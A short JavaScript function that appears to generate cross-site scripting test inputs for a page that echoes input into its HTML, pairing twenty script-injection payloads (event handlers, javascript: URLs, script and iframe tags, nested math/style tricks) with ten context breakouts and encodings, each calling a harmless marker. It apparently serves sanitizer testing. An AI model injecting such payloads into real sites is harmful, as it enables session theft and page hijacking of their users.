// Texts that become markup or script on a page that puts what it was given into its HTML.
const markup = () => {
  const call = "globalThis.__ran=1";
  const elements = [
    `<img src=x onerror="${call}">`,
    `<svg onload="${call}"></svg>`,
    `<script>${call}</script>`,
    `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
    `<body onload="${call}">`,
    `<video><source onerror="${call}"></video>`,
    `<details open ontoggle="${call}">x</details>`,
    `<input autofocus onfocus="${call}">`,
    `<a href="javascript:${call}">x</a>`,
    `<math><mtext><style><img src=x onerror="${call}"></style></mtext></math>`,
    `<object data="javascript:${call}"></object>`,
    `<embed src="javascript:${call}">`,
    `<form action="javascript:${call}"><button>x</button></form>`,
    `<marquee onstart="${call}">x</marquee>`,
    `<template><img src=x onerror="${call}"></template>`,
    `<link rel=stylesheet href="javascript:${call}">`,
    `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
    `<base href="javascript:${call}//">`,
    `<style>@import "javascript:${call}";</style>`,
    `<div style="background:url(javascript:${call})">x</div>`,
  ];
  const contexts = [
    (text) => text,
    (text) => `">${text}`,
    (text) => `'>${text}`,
    (text) => `</textarea>${text}`,
    (text) => `</title></style></script>${text}`,
    (text) => `<!--${text}-->${text}`,
    (text) => `${text}\u0000`,
    (text) => text.toUpperCase().replaceAll("GLOBALTHIS.__RAN", "globalThis.__ran"),
    (text) => text.replaceAll(" ", "/"),
    (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  ];
  return elements.flatMap((element) => contexts.map((context) => context(element)));
};
